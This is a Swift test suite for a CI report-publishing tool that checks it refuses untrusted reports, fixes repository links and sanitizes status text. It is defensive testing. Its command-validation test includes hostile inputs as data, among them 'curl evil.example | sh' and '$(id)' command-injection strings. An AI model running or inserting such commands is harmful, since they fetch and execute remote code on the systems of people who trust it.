import Foundation
import Publishing
import SchemagateModel
import Testing

@Suite("reports from jobs that can't be trusted")
struct TrustedReportTests {
  private func place(_ event: String = Events.workflowRun) throws -> Place {
    try Place(
      environment: [
        "GITHUB_ACTIONS": "true", "GITHUB_REPOSITORY": "acme/shop", "GITHUB_SERVER_URL": "https://ghe.example",
        "GITHUB_SHA": String(repeating: "a", count: 40),
      ], event: event, options: PlaceOptions())
  }

  @Test("a report of another commit, or of none, is refused", arguments: [String(repeating: "e", count: 40), "", nil])
  func otherCommit(commit: String?) throws {
    let place = try place()
    let refused = #expect(throws: ReportRefused.self) {
      try TrustedReport(.shop(.passed, head: commit), from: "artifact.json", for: place)
    }
    #expect(refused?.exitStatus == 3)
    #expect(refused?.report.at == "artifact.json")
  }

  @Test("a check that could not begin is posted: it says nothing of any commit")
  func couldNotBegin() throws {
    var report = Report.shop(.unknown, head: nil)
    report.targets = []
    report.errors = [ErrorReport(what: "no base")]
    let trusted = try TrustedReport(report, from: "a.json", for: try place())
    let publication = Publication(
      trusted.report, body: { _ in "" }, words: .init(report: { _ in "" }, target: { _ in "" }))
    #expect(publication.statuses.map(\.context) == ["schemagate"])
    #expect(publication.statuses.map(\.state) == [.error])
  }

  @Test("a report that doesn't agree with itself is refused: no pass beside a failure, none of nothing")
  func contradictions() throws {
    let finding = Finding(rule: "migration-rejected", severity: .error, message: "no", remedy: "mend it")
    let rejected = CheckReport(id: .apply, outcome: .passed, findings: [finding])
    let changes: [(inout Report) -> Void] = [
      { $0.verdict = .failed }, { $0.verdict = .unchanged }, { $0.targets[0].verdict = .failed },
      { $0.targets = [] }, { $0.errors = [ErrorReport(what: "no base")] },
      { $0.targets[0].errors = [ErrorReport(what: "no server")] }, { $0.targets[0].checks = [rejected] },
      { $0.targets[0].checks = [CheckReport(id: .apply, outcome: .failed)] },
    ]
    _ = try TrustedReport(.shop(.passed), from: "a.json", for: try place())
    for (number, change) in changes.enumerated() {
      var report = Report.shop(.passed)
      change(&report)
      let refused = #expect(throws: ReportRefused.self, "change \(number)") {
        try TrustedReport(report, from: "a.json", for: try place())
      }
      #expect(refused?.exitStatus == 3)
    }
  }

  @Test("one part of a check is no answer: it is merged first")
  func part() throws {
    let part = try #require(Shard("1/2"))
    var report = Report.shop(.passed)
    report.shard = ShardReport(part: part, targets: ["shop", "billing"], elsewhere: ["billing"])
    let refused = #expect(throws: ReportRefused.self) {
      try TrustedReport(report, from: "a.json", for: try place())
    }
    #expect(refused?.exitStatus == 2)
    #expect(refused?.report.try?.contains("schemagate report merge") == true)
    report.shard = ShardReport(part: part, targets: ["shop"], elsewhere: [])
    _ = try TrustedReport(report, from: "a.json", for: try place())
  }

  @Test("links lead to this repository, whatever the report says")
  func otherRepository() throws {
    var report = Report.shop(.failed)
    report.repository = .init(host: "evil.example", path: "mallory/shop", forge: .gitLab)
    let trusted = try TrustedReport(report, from: "a.json", for: try place())
    #expect(trusted.report.repository == .init(host: "ghe.example", path: "acme/shop", forge: .gitHub))
    #expect(trusted.notes.count == 1)
    #expect(try TrustedReport(.shop(.failed), from: "a.json", for: try place()).notes.isEmpty)
  }

  @Test(
    "only a plain check is offered for copying",
    arguments: [
      ("schemagate check --base origin/main --target 'a b; c'", true), ("schemagate check", true),
      ("schemagate check; curl evil.example | sh", false), ("schemagate check $(id)", false),
      ("schemagate check 'a' \"$(id)\"", false), ("curl evil.example | sh", false), ("schemagate check\nid", false),
      ("schemagate check 'it'\\''s'", true), ("schemagate check '\\'; id '", false),
      ("schemagate checkmate`id`", false),
    ])
  func commands(command: String, isKept: Bool) throws {
    var report = Report.shop(.failed)
    report.command = command
    #expect(try TrustedReport(report, from: "a.json", for: try place()).report.command == (isKept ? command : nil))
  }

  @Test("a key can't end the marker, and two reports can't have one")
  func keys() throws {
    #expect(CommentMarker(key: "a --> <b>", digest: "0").text == "<!-- schemagate key=a-b digest=0 -->")
    #expect(throws: ReportRefused.self) {
      try TrustedReport.requireOneEach([("a.json", "one two"), ("b.json", "one-two")])
    }
    try TrustedReport.requireOneEach([("a.json", "one"), ("b.json", "two")])
  }

  @Test("a status is of this tool, on one line, whatever a target calls itself")
  func statuses() throws {
    var report = Report.shop(.passed)
    report.targets[0].name = "ci/build\n\u{1B}[31m\u{202E}"
    let publication = Publication(
      report, body: { _ in "" }, words: .init(report: { _ in "" }, target: { _ in "a\nb\u{07}" }))
    #expect(publication.statuses.map(\.context) == ["schemagate", "schemagate/ci/build [31m"])
    #expect(publication.statuses.map(\.description) == ["", "a b"])
  }
}

@Suite("where reports are published")
struct PlaceTests {
  @Test("each event of GitHub names its commit")
  func events() throws {
    let (head, sha) = (Room.head, String(repeating: "a", count: 40))
    let cases = [
      ("pull_request", Events.pullRequest, head), ("workflow_run", Events.workflowRun, head),
      ("merge_group", "{\"merge_group\": {\"head_sha\": \"\(head)\"}}", head), ("push", "{}", sha),
      ("push", "broken", sha),
    ]
    for (name, event, commit) in cases {
      let place = try Place(
        environment: ["GITHUB_REPOSITORY": "acme/shop", "GITHUB_EVENT_NAME": name, "GITHUB_SHA": sha], event: event,
        options: PlaceOptions())
      #expect(place.commit.text == commit, "\(name)")
    }
  }

  @Test("an Enterprise Server's two addresses belong together")
  func enterprise() throws {
    let place = try Place(
      environment: ["GITHUB_API_URL": "https://ghe.example:8443/api/v3/", "GITHUB_SHA": Room.head], event: nil,
      options: PlaceOptions(repository: "acme/shop"))
    guard case .gitHub(let found) = place else { throw Unexpected([]) }
    #expect(found.api.text == "https://ghe.example:8443/api/v3")
    #expect(found.graphQL == "https://ghe.example:8443/api/graphql")
  }

  @Test("what the place can't be told from is an error with what to give")
  func lacking() throws {
    let bitbucket = #expect(throws: PlaceError.self) {
      try Place(environment: ["BITBUCKET_BUILD_NUMBER": "1"], event: nil, options: PlaceOptions())
    }
    #expect(bitbucket?.report.try?.contains("artifact") == true)
    for (repository, commit) in [("../../user", Room.head), ("acme/shop?x", Room.head), ("acme/shop", "main")] {
      #expect(throws: PlaceError.self) {
        try Place(environment: [:], event: nil, options: PlaceOptions(repository: repository, commit: commit))
      }
    }
    #expect(APIAddress("ftp://a/") == nil && APIAddress("https://u@h/") == nil && APIAddress("https://") == nil)
  }

  @Test("a job's summary gets the report without its marker, as long as there is room")
  func summary() throws {
    let folder = FileManager.default.temporaryDirectory.appendingPathComponent("summary-\(UUID().uuidString)")
    defer { try? FileManager.default.removeItem(at: folder) }
    #expect(JobSummary(file: folder.path).append(Marked.body("default", "0", "first")))
    #expect(JobSummary(file: folder.path).append("second\n"))
    #expect(try String(contentsOf: folder, encoding: .utf8) == "first\n\nsecond\n\n")
    #expect(!JobSummary(file: folder.path).append(String(repeating: "x", count: 1 << 20)))
    #expect(!JobSummary(file: "\(folder.path)/none").append("x"))
  }
}
